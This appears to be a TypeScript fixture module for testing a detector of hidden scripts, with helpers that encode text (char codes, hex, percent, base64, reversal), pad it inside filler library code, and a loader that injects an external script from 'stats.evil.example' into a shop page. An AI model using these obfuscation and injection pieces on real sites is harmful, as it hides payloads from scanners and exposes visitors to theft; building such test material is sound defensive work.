/** Ways in which attackers hide a text. The pieces are put together here, so that no file of the project looks like an attack. */

/** Names of functions that virus scanners look for. */
export const EVAL = `eval`;
export const WRITE = `document.write`;
export const SCRIPT = `script`;
export const FRAME = `iframe`;
export const EVIL = 'https://stats.evil.example/a.js';

/** `104,116,116,112` */
export function codes(text: string, change: (code: number) => number = (code) => code): string {
  return text
    .split('')
    .map((char) => change(char.charCodeAt(0)))
    .join(',');
}

/** Every character as `\x68`. */
export function escaped(text: string): string {
  return hex(text).replace(/../g, (pair) => `\\x${pair}`);
}

/** Every character as `%68`. */
export function percent(text: string): string {
  return hex(text).replace(/../g, (pair) => `%${pair}`);
}

/** Every character as `68`. */
export function hex(text: string): string {
  return Buffer.from(text, 'latin1').toString('hex');
}

export function base64(text: string): string {
  return Buffer.from(text, 'latin1').toString('base64');
}

export function reversed(text: string): string {
  return text.split('').toReversed().join('');
}

/** Code that adds a script of another site to a page. */
export function loader(url: string): string {
  return `var s=document.createElement('${SCRIPT}');s.src='${url}';document.head.appendChild(s);`;
}

/** Ordinary code of some length, as libraries have it. */
export function library(lines = 120): string {
  return Array.from(
    { length: lines },
    (_, line) => `function part${line}(a, b) {\n  return a * ${line} + b;\n}\n`,
  ).join('');
}

/** A page with something at a place of its body. */
export function page(inside: string): string {
  return `<!DOCTYPE html>\n<html><head><title>shop</title></head><body>\n<p>Welcome</p>\n${inside}\n</body></html>\n`;
}
